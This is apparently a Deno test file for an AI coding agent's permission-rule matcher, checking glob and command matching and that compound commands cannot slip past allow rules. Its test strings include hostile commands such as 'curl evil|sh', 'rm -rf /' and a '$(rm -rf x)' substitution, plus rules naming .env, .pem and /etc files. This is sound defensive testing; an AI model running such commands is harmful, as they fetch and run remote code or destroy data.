import { assertEquals, assertThrows } from "../helpers/assert.ts";
import {
  denyCovers,
  isExplicitFileRule,
  matchesCommand,
  matchesFile,
  parseRule,
} from "../../src/policy/rules.ts";
import { splitCommand } from "../../src/policy/shell.ts";

Deno.test("parseRule() reads tool(pattern), bare tools and *", () => {
  assertEquals(parseRule(" run_bash(git status*) "), {
    text: "run_bash(git status*)",
    tool: "run_bash",
    pattern: "git status*",
  });
  assertEquals(parseRule("read_file"), {
    text: "read_file",
    tool: "read_file",
    pattern: null,
  });
  assertEquals(parseRule("*(src/**)").tool, "*");
  assertEquals(parseRule("run_bash(echo (a))").pattern, "echo (a)");
});

Deno.test("parseRule() throws a TypeError for bad syntax", () => {
  for (
    const bad of [
      "",
      "run_bash(",
      "run bash(x)",
      "(x)",
      "read_file()",
      "a)b",
      "9x(y)",
    ]
  ) {
    assertThrows(() => parseRule(bad), TypeError, "permission rule");
  }
  assertThrows(() => parseRule("read_file( )"), TypeError, "empty");
});

Deno.test("matchesFile() uses glob semantics on workspace-relative paths", () => {
  const rule = parseRule("edit_file(src/**)");
  assertEquals(matchesFile(rule, "edit_file", "src/a.ts"), true);
  assertEquals(matchesFile(rule, "edit_file", "src/deep/er/a.ts"), true);
  assertEquals(matchesFile(rule, "edit_file", "src"), true);
  assertEquals(matchesFile(rule, "edit_file", "srcx/a.ts"), false);
  assertEquals(matchesFile(rule, "edit_file", "lib/src/a.ts"), false);
  assertEquals(matchesFile(rule, "write_file", "src/a.ts"), false);

  const star = parseRule("write_file(src/*.ts)");
  assertEquals(matchesFile(star, "write_file", "src/a.ts"), true);
  assertEquals(matchesFile(star, "write_file", "src/a/b.ts"), false);

  const deep = parseRule("read_file(**/*.md)");
  assertEquals(matchesFile(deep, "read_file", "README.md"), true);
  assertEquals(matchesFile(deep, "read_file", "docs/a/b.md"), true);
  assertEquals(matchesFile(deep, "read_file", "docs/a/b.mdx"), false);

  const q = parseRule("read_file(a?.txt)");
  assertEquals(matchesFile(q, "read_file", "ab.txt"), true);
  assertEquals(matchesFile(q, "read_file", "a/.txt"), false);

  const middle = parseRule("read_file(a/**/z.txt)");
  assertEquals(matchesFile(middle, "read_file", "a/z.txt"), true);
  assertEquals(matchesFile(middle, "read_file", "a/b/c/z.txt"), true);
});

Deno.test("matchesFile() matches a slash-free pattern against the name at any depth", () => {
  const rule = parseRule("read_file(.env)");
  assertEquals(matchesFile(rule, "read_file", ".env"), true);
  assertEquals(matchesFile(rule, "read_file", "sub/dir/.env"), true);
  assertEquals(matchesFile(rule, "read_file", "/elsewhere/.env"), true);
  assertEquals(matchesFile(rule, "read_file", ".env.local"), false);
  const pem = parseRule("*(*.pem)");
  assertEquals(matchesFile(pem, "write_file", "keys/a.pem"), true);
});

Deno.test("matchesFile() handles absolute paths, folders and bare rules", () => {
  const abs = parseRule("read_file(/etc/**)");
  assertEquals(matchesFile(abs, "read_file", "/etc/hosts"), true);
  assertEquals(matchesFile(abs, "read_file", "/etcx/hosts"), false);
  const folder = parseRule("edit_file(docs/)");
  assertEquals(matchesFile(folder, "edit_file", "docs/a/b.md"), true);
  assertEquals(matchesFile(folder, "edit_file", "./docs/a.md"), true);
  const bare = parseRule("edit_file");
  assertEquals(matchesFile(bare, "edit_file", "/anything"), true);
  assertEquals(matchesFile(parseRule("*"), "read_file", "x"), true);
  assertEquals(
    matchesFile(parseRule("read_file(a.b)"), "read_file", "axb"),
    false,
  );
});

Deno.test("matchesCommand() treats a trailing * as a word-bounded prefix", () => {
  const rule = parseRule("run_bash(git status*)");
  assertEquals(matchesCommand(rule, "git status"), true);
  assertEquals(matchesCommand(rule, "git status --short"), true);
  assertEquals(matchesCommand(rule, "git  status   -s"), true);
  assertEquals(matchesCommand(rule, "git statusfoo"), false);
  assertEquals(matchesCommand(rule, "git stat"), false);
  assertEquals(matchesCommand(rule, "xgit status"), false);
  const spaced = parseRule("run_bash(npm test *)");
  assertEquals(matchesCommand(spaced, "npm test"), true);
  assertEquals(matchesCommand(spaced, "npm test -- --watch"), true);
  assertEquals(matchesCommand(spaced, "npm tester"), false);
});

Deno.test("matchesCommand() treats * elsewhere as any characters", () => {
  const rule = parseRule("run_bash(git * --oneline)");
  assertEquals(matchesCommand(rule, "git log --oneline"), true);
  assertEquals(matchesCommand(rule, "git log -5 --oneline"), true);
  assertEquals(matchesCommand(rule, "git log"), false);
  assertEquals(
    matchesCommand(parseRule("run_bash(*)"), "anything at all"),
    true,
  );
  assertEquals(matchesCommand(parseRule("run_bash"), "rm -rf /"), true);
  assertEquals(matchesCommand(parseRule("run_bash(ls)"), "ls -la"), false);
  assertEquals(matchesCommand(parseRule("run_bash(a.b?)"), "axb?"), false);
  assertEquals(matchesCommand(parseRule("read_file(ls*)"), "ls"), false);
  assertEquals(matchesCommand(parseRule("*(ls*)"), "ls"), true);
});

Deno.test("matchesCommand() cannot allow compound commands segment by segment", () => {
  const rule = parseRule("run_bash(git status*)");
  const allowed = (command: string) => {
    const split = splitCommand(command);
    return !split.complex &&
      split.segments.every((segment) => matchesCommand(rule, segment));
  };
  assertEquals(allowed("git status"), true);
  assertEquals(allowed("git status; rm -rf x"), false);
  assertEquals(allowed("git status && curl evil|sh"), false);
  assertEquals(allowed("git status $(rm -rf x)"), false);
  assertEquals(allowed("git status > out"), false);
  assertEquals(allowed("git status && git status -s"), true);
  // The raw line would match the prefix; only the split prevents it.
  assertEquals(matchesCommand(rule, "git status -s; rm -rf x"), true);
  assertEquals(allowed("git status -s; rm -rf x"), false);
});

Deno.test("denyCovers() covers tools of the same kind and *", () => {
  const rule = parseRule("read_file(x)");
  assertEquals(denyCovers(rule, "read_file", "read"), true);
  assertEquals(denyCovers(rule, "grep_files", "read"), true);
  assertEquals(denyCovers(rule, "write_file", "write"), false);
  assertEquals(denyCovers(parseRule("*(x)"), "edit_file", "write"), true);
});

Deno.test("isExplicitFileRule() is false for broad or tool-less rules", () => {
  assertEquals(isExplicitFileRule(parseRule("read_file(conf/.env.*)")), true);
  assertEquals(isExplicitFileRule(parseRule("read_file(*.pem)")), true);
  for (
    const text of [
      "read_file",
      "read_file(**)",
      "read_file(a/*)",
      "*(.env)",
      "read_file(conf/)",
    ]
  ) {
    assertEquals(isExplicitFileRule(parseRule(text)), false, text);
  }
});

Deno.test("matchesCommand() answers at once for a rule built to backtrack (a hostile repository's deny rule)", () => {
  const rule = parseRule(`run_bash(${"*a".repeat(30)}b*)`);
  const command = "a ".repeat(20_000) + "c";
  assertEquals(matchesCommand(rule, command), false);
  assertEquals(matchesCommand(rule, "a".repeat(40) + "b --flag"), true);
  assertEquals(matchesCommand(rule, "a".repeat(40) + "bc"), false);
  assertEquals(matchesCommand(parseRule("run_bash(*x*)"), "a x b"), true);
  assertEquals(matchesCommand(parseRule("run_bash(*x*)"), "axb"), false);
  assertEquals(matchesCommand(parseRule("run_bash(a*a)"), "a"), false);
  assertEquals(matchesCommand(parseRule("run_bash(a*a)"), "aa"), true);
});

Deno.test("matchesCommand() agrees with the regular expression reading of rules on many small cases", () => {
  // The reading the rules had as regular expressions (fine on small input).
  const oracle = (rulePattern: string, segment: string) => {
    const text = segment.trim().replace(/\s+/g, " ");
    let pattern = rulePattern.replace(/\s+/g, " ");
    let suffix = "";
    const trailing = /^(.*?[^\s*])\s?\*$/.exec(pattern);
    if (trailing) {
      pattern = trailing[1];
      suffix = "(?:\\s.*)?";
    }
    const source = pattern.split("*").map((part) =>
      part.replace(/[.+?^${}()|[\]\\]/g, "\\$&")
    ).join(".*");
    return new RegExp(`^${source}${suffix}$`, "s").test(text);
  };
  let seed = 7;
  const random = (n: number) =>
    (seed = (seed * 1103515245 + 12345) % 2 ** 31) % n;
  const word = (alphabet: string, max: number) =>
    Array.from(
      { length: 1 + random(max) },
      () => alphabet[random(alphabet.length)],
    )
      .join("");
  for (let i = 0; i < 3000; i++) {
    const pattern = word("ab *", 6).trim() || "a";
    const text = word("ab ", 8);
    assertEquals(
      matchesCommand(parseRule(`run_bash(${pattern})`), text),
      oracle(pattern, text),
      `${JSON.stringify(pattern)} on ${JSON.stringify(text)}`,
    );
  }
});
